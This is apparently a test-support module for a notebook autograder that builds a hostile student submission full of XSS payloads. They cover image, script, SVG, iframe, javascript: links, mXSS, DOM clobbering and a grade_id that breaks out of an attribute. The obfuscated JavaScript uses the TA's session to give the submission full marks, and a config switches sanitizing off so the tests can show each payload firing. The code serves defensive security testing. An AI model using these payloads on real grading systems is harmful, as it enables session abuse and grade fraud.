"""A hostile toy submission: each way student content has of running a script in the page that shows it.

Every payload, if it runs, marks the page (``<body data-pwned-KIND="1">``) and, on a Formgrader page (where
jQuery, ``base_url`` and ``submission_id`` exist), gives every grade of the submission full marks and 100
points of extra credit through Formgrader's own API, with the TA's login. A few payloads cannot run on page
load (a ``javascript:`` link needs a click; the page's own ``$`` is missing from feedback, so an
``application/javascript`` output fails first there) or do not run at all (ids that could shadow Formgrader's
inputs): :data:`STATIC_MARKS` are looked for in the page instead.

``UNSAFE_SETTINGS`` switch the course's protection off (nbgrader's templates, no sanitizing, SVG inline, no
metadata check), so that the tests can show each payload running where nothing stops it.
"""

from __future__ import annotations

import base64
import re

import nbformat
from nbconvert.preprocessors import Preprocessor
from nbformat.v4 import new_code_cell, new_markdown_cell

MARK = "data-pwned-"
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="

_ATTACK = """(function () {
  document.body.setAttribute("%s" + %s, "1");
  if (window.jQuery && window.base_url && window.submission_id) {
    var xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
    jQuery.getJSON(base_url + "/api/grades?submission_id=" + submission_id, function (grades) {
      grades.forEach(function (g) {
        jQuery.ajax({url: base_url + "/api/grade/" + g.id, type: "PUT", contentType: "application/json",
                     data: JSON.stringify({manual_score: g.max_score, extra_credit: 100}),
                     headers: {"X-XSRFToken": xsrf}});
      });
    });
  }
})();"""


def attack(kind: str) -> str:
    """JavaScript without double quotes or line breaks that runs the attack for ``kind``; it starts with a
    comment that names the kind, to be found in the page's source."""
    code = _ATTACK % (MARK, f'"{kind}"')
    return f"/*{kind}*/eval(atob('{base64.b64encode(code.encode()).decode()}'))"


def attack_unquoted(kind: str) -> str:
    """The attack with no quotes and no spaces, for an unquoted attribute value."""
    code = _ATTACK % (MARK, f'"{kind}"')
    return "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in code) + "))"


def mark_unquoted(kind: str) -> str:
    """Only the mark of ``kind``, short, with no quotes, spaces or slashes (for a file name)."""
    codes = ",".join(str(ord(ch)) for ch in MARK + kind)
    return f"document.body.setAttribute(String.fromCharCode({codes}),1)"


#: The name of a notebook file a student sends: an HTML tag (the page of a notebook that could not be graded
#: lists the files sent).
FILE_NAME = f"<img src=x onerror={mark_unquoted('file-name')}>"

#: Markdown cells a student adds: kind -> source.
MARKDOWN = {
    "md-img": f'An image: <img src="x" onerror="{attack("md-img")}">',
    "md-script": f"<script>{attack('md-script')}</script>\n\nafter the script",
    "md-svg": f'<svg onload="{attack("md-svg")}"><circle r="4"></circle></svg>',
    "md-iframe": f'<iframe srcdoc="<script>parent.{attack("md-iframe")}</script>"></iframe>',
    "md-iframe-js": f'<iframe src="javascript:parent.{attack("md-iframe-js")}"></iframe>',
    "md-details": f'<details open ontoggle="{attack("md-details")}"><summary>more</summary>text</details>',
    # aimed at a sanitizer's parse and serialization (a browser's one parse keeps the image inside the style)
    "md-mxss": f'<math><mtext><table><mglyph><style><img src="x" onerror="{attack("md-mxss")}">'
    "</style></mglyph></table></mtext></math>",
    "md-link": f'[a link](javascript:{attack("md-link")}) and <a href="JavaScript:{attack("md-link")}">another</a>',
    "md-clobber": '<span id="clobber-md" name="clobber">x</span> <input id="test_add" name="test_add" value="9">',
}

_HTML = f'<script>{attack("html-script")}</script><img src="x" onerror="{attack("html-img")}">'
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack("svg-onload")}">'
    f'<script>{attack("svg-script")}</script><circle r="4"/></svg>'
)
_MARKDOWN_OUTPUT = f'Markdown output: <img src="x" onerror="{attack("mdout-img")}">'
_PNG_METADATA = {"image/png": {"width": f"1 onload={attack_unquoted('png-width')}"}}

#: A code cell whose outputs carry payloads (it runs in the grader's kernel).
OUTPUTS_SOURCE = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({_HTML!r}))
display(SVG({_SVG!r}))
display(Javascript({attack("js-output")!r}))
display(Markdown({_MARKDOWN_OUTPUT!r}))
display({{"image/png": {PNG_1PX!r}, "text/plain": "a pixel"}}, raw=True, metadata={_PNG_METADATA!r})
"""

#: A grade_id that breaks out of the attribute nbgrader's templates print it into.
HOSTILE_GRADE_ID = f'x"></textarea><img src="x" onerror="{attack("grade-id")}"><b title="'

#: A student's code cell flagged as tampering (it assigns to numpy): the flag's message names the cell by
#: its grade_id, which the student chose.
TAMPER_SOURCE = "import numpy as np\nnp.course_marker = 1\n"

#: Marks looked for in the page rather than waited for: kind -> a regular expression over the dumped DOM.
STATIC_MARKS = {
    "md-link": re.compile(r"href=\"\s*javascript:", re.I),
    "md-clobber": re.compile(r"id=\"clobber-md\""),
    "js-output": re.compile(r"<script[^>]*>[^<]*/\*js-output\*/", re.I),
}

#: Kinds that run on page load where nothing stops them (not md-mxss: it needs a sanitizer's round trip).
RUNNING = {
    "md-img", "md-script", "md-svg", "md-iframe", "md-iframe-js", "md-details",
    "html-script", "html-img", "svg-onload", "svg-script", "mdout-img", "png-width",
}  # fmt: skip


def add_payloads(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The student notebook ``nb`` with the payload cells appended after its first cell."""
    cells = [new_markdown_cell(source) for source in MARKDOWN.values()]
    cells.append(new_code_cell(OUTPUTS_SOURCE))
    tamper = new_code_cell(TAMPER_SOURCE)
    tamper.metadata["nbgrader"] = {"grade": False, "grade_id": HOSTILE_GRADE_ID, "locked": False,
                                   "schema_version": 3, "solution": False, "task": False}  # fmt: skip
    cells.append(tamper)
    nb.cells[1:1] = cells
    return nb


def add_hostile_answer_cell(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """``nb`` with a Markdown answer cell whose grade_id is hostile (as an autograded notebook could carry
    it if anything let it through: nbgrader's own autograde removes unknown grade_ids)."""
    cell = new_markdown_cell("An answer.")
    cell.metadata["nbgrader"] = {"grade": False, "grade_id": HOSTILE_GRADE_ID, "locked": False,
                                 "schema_version": 3, "solution": True, "task": False}  # fmt: skip
    nb.cells.insert(1, cell)
    return nb


def ran(dom: str) -> set[str]:
    """The payload kinds that ran in the page whose DOM is ``dom``."""
    return set(re.findall(re.escape(MARK) + r"([a-z0-9-]+)=", dom))


def marks(dom: str) -> set[str]:
    """The payload kinds that left their mark in a dumped DOM: they ran, or (:data:`STATIC_MARKS`) are there."""
    return ran(dom) | {kind for kind, pattern in STATIC_MARKS.items() if pattern.search(dom)}


# --- the protection switched off ------------------------------------------------------------------------


def passthrough(element) -> str:
    """A ``clean_html`` filter that cleans nothing."""
    return element.decode() if isinstance(element, bytes) else str(element)


class RawProblemsBanner(Preprocessor):
    """The problems banner as it was: messages put into Markdown as they are."""

    enabled = True

    def preprocess(self, nb, resources):
        problems = nb.metadata.get("autograder", {}).get("problems", [])
        if problems:
            items = "\n".join(f"- **{p['kind']}**: {p['message']}" for p in problems)
            nb.cells.insert(0, new_markdown_cell(f"## Problems while grading\n\n{items}"))
        return nb, resources


UNSAFE_SETTINGS = """
c = get_config()  # noqa: F821
c.HTMLExporter.sanitize_html = False
c.HTMLExporter.skip_svg_encoding = True
c.HTMLExporter.filters = {"clean_html": "tests.support.payloads.passthrough"}
c.HTMLExporter.preprocessors = []
c.HTMLExporter.extra_template_basedirs = [__import__("autograder.config").config.nbgrader_templates()]
"""


def unsafe_html(c) -> None:
    """Apply :data:`UNSAFE_SETTINGS` to the nbgrader ``Config`` ``c``, and the old problems banner."""
    exec(UNSAFE_SETTINGS, {"get_config": lambda: c})
    c.GenerateFeedback.preprocessors = [
        "nbgrader.preprocessors.GetGrades",
        "autograder.feedback.HideHiddenTests",
        "tests.support.payloads.RawProblemsBanner",
        "nbconvert.preprocessors.CSSHTMLHeaderPreprocessor",
    ]
